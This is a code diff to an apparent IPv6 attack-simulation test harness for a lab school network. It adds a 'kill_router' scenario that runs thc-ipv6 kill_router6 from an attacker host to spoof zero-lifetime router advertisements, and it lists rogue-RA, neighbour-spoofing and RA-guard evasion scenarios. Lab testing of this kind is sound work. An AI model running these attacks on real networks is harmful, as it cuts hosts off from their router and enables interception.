@@ -22,6 +22,7 @@ from pathlib import Path
 from tests.lab.lan import IF, LAN, TUNNEL_DOMAIN, UPSTREAM_DOMAIN, Host, SchoolLan, which
 
 SERVER6, ATTACKER6, STUDENT6 = "fd77::10", "fd77::66", "fd77::101"
+GATEWAY6 = "fd77::1"
 
 PASSWORDS = [
     "123456",
@@ -992,6 +993,43 @@ def rogue_ra(lan: SchoolLan, small: bool = False) -> Outcome:
     )
 
 
+def kill_router(lan: SchoolLan, small: bool = False) -> Outcome:
+    """The gateway advertises itself as the LAN's IPv6 router (dnsmasq's router
+    advertisements); thc-ipv6 kill_router6 on the attacker sends advertisements with
+    router lifetime 0 from the gateway's address: every IPv6 host drops its router."""
+    gw, a, victim = lan.gw, lan.attacker, lan.students[0]
+    lan.ipv6(gw, GATEWAY6)
+    lan.ipv6(a, ATTACKER6)
+    lan.ipv6(victim, STUDENT6)
+    ra = None
+    try:
+        time.sleep(2)  # DAD of the link-local addresses
+        ra = lan.start(
+            gw.ns, "dnsmasq-ra", "dnsmasq", "--no-daemon", "--conf-file=/dev/null",
+            "--port=0", "--enable-ra", f"--interface={IF}", "--bind-interfaces",
+            "--dhcp-range=fd77::,ra-only,64", f"--pid-file={lan.work / 'dnsmasq-ra.pid'}",
+        )  # fmt: skip
+        time.sleep(4)  # the router's first advertisements
+        router = _link_local(lan, gw)
+        out = _bounded(lan, a.ns, 8, "atk6-kill_router6", IF, router)
+        link_local = _link_local(lan, a)
+    finally:
+        if ra is not None:
+            lan.stop(ra)
+        for host in (victim, a, gw):
+            lan.ipv6(host, None)
+    return Outcome(
+        "kill_router",
+        ("rogue_ra",),
+        f"atk6-kill_router6 {IF} {router}",
+        "thc-ipv6 kill_router6: router advertisements with router lifetime 0 from the "
+        "gateway's link-local address (the gateway advertises itself with dnsmasq)",
+        a,
+        "thc-ipv6",
+        notes={"attacker_ip6": link_local, "output_tail": out[-300:]},
+    )
+
+
 def _rogue_ra_evading(name: str, evasion: str, what: str):  # type: ignore[no-untyped-def]
     """fake_router26 with one of its RA-guard evasions: the advertisement behind
     extension headers or split into fragments, as a switch's RA guard is stepped around."""
@@ -1393,6 +1431,7 @@ SCENARIOS = {
         Scenario("nd_spoof", ("atk6-parasite6", "ping"), nd_spoof),
         Scenario("sweep_and_scan", ("nmap",), sweep_and_scan),
         Scenario("nd_advertise", ("atk6-fake_advertise6", "ping"), nd_advertise),
+        Scenario("kill_router", ("atk6-kill_router6", "dnsmasq"), kill_router),
         Scenario("rogue_ra_hop_by_hop", ("atk6-fake_router26",), rogue_ra_hop_by_hop),
         Scenario("rogue_ra_atomic_fragment", ("atk6-fake_router26",), rogue_ra_atomic_fragment),
         Scenario("rogue_ra_fragmented", ("atk6-fake_router26",), rogue_ra_fragmented),
